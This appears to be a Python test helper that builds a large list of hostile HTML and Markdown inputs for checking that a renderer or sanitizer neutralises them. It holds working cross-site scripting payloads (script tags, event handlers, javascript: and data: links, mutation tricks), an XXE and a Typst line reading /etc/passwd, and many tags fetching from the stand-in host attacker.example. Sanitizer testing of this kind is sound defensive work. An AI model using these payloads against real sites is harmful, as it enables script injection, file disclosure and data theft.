"""Hostile Markdown and HTML: each of these runs `ran()` where it is not made harmless."""

from collections.abc import Iterator
from itertools import product
from random import Random

HOST = "attacker.example"
BARE = (
    "<script>ran()</script>",
    "<script src=//{host}/x.js></script>",
    "<img src=x onerror=ran()>",
    "<img src='http://{host}/pixel.png'>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()'",
    "<math href='javascript:ran()'>click</math>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src='javascript:parent.ran()'></iframe>",
    "<iframe src='http://{host}/frame'></iframe>",
    "<object data='javascript:ran()'></object>",
    "<embed src='http://{host}/x.swf'>",
    "<body onload=ran()>",
    "<details open ontoggle=ran()>x</details>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()>",
    "<textarea autofocus onfocus=ran()></textarea>",
    "<marquee onstart=ran()>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<link rel=stylesheet href='http://{host}/x.css'>",
    "<base href='http://{host}/'>",
    "<form action='javascript:ran()'><input type=submit></form>",
    "<style>@import 'http://{host}/x.css';</style>",
    "<style>*{{background:url(http://{host}/bg.png)}}</style>",
    "<div style='background:url(http://{host}/d.png)'>x</div>",
    "<a href='javascript:ran()'>click</a>",
    "<a href='jav&#x09;ascript:ran()'>click</a>",
    "<a href=' &#14; javascript:ran()'>click</a>",
    "<a href='data:text/html,<script>ran()</script>'>click</a>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<template><script>ran()</script></template>",
    "<!--><img src=x onerror=ran()>-->",
    "<![CDATA[<img src=x onerror=ran()>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "</textarea></title></style></script><img src=x onerror=ran()>",
    "\"><img src=x onerror=ran()>",
    "'><img src=x onerror=ran()>",
    "[click](javascript:ran())",
    "[click](JaVaScRiPt:ran())",
    "[click](javascript&colon;ran())",
    "[click](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[click](vbscript:ran())",
    "[click](<javascript:ran()>)",
    "[a]: javascript:ran()\n\n[a]",
    "![x](javascript:ran())",
    "![x](http://{host}/image.png)",
    "![x\"onerror=\"ran()](x)",
    "![x](x \"onerror=ran()\")",
    "<javascript:ran()>",
    "<http://{host}/\"onmouseover=ran()>",
    "`<img src=x onerror=ran()>`",
    "```html\n<img src=x onerror=ran()>\n```",
    "```\"><img src=x onerror=ran()>\nx\n```",
    "$<img src=x onerror=ran()>$",
    "$\\href{{javascript:ran()}}{{x}}$",
    "$$\\text{{<script>ran()</script>}}$$",
    "| a |\n| - |\n| <img src=x onerror=ran()> |",
    "[^1]: <img src=x onerror=ran()>\n\nx[^1]",
    "- [ ] <img src=x onerror=ran()>",
    "> <script>ran()</script>",
    ":material/home: :red[<img src=x onerror=ran()>]",
    "#import \"@preview/x:1.0.0\"\n#read(\"/etc/passwd\")",
    "#image(\"/etc/passwd\") #eval(\"1\")",
    "{{{{7*7}}}} ${{7*7}} <%= 7*7 %>",
)  # fmt: skip
WAYS = (
    "{}",
    "text {} text",
    "**{}**",
    "- {}",
    "> {}",
    "1. {}",
    "x <b>{}</b> y",
    "\u202e{}",
    "\u200b{}\u200b",
    "[1] {} [1]",
    "&lt;{}&gt;",
)
NOISE = "\x00\x01\x08\x0b\x0c\x1b\x7f\ufeff\ufffe"


def payloads(host: str, count: int) -> Iterator[str]:
    """Give so many different payloads; those that fetch would fetch from `host`."""
    random = Random(5)
    made = 0
    while True:
        for bare, way in product(BARE, WAYS):
            payload = way.format(bare.format(host=host))
            if made >= len(BARE) * len(WAYS):  # again, with case and spaces changed
                payload = _changed(payload, random)
            yield payload
            made += 1
            if made == count:
                return


def _changed(payload: str, random: Random) -> str:
    letters = [c.swapcase() if c.isalpha() and random.random() < 0.3 else c for c in payload]
    text = "".join(letters).replace("RAN()", "ran()").replace("Ran()", "ran()")
    at = random.randrange(len(text) + 1)
    filler = random.choice(("\t", " ", "/", "\\", "\u00a0", random.choice(NOISE[1:])))
    return text[:at] + filler + text[at:]
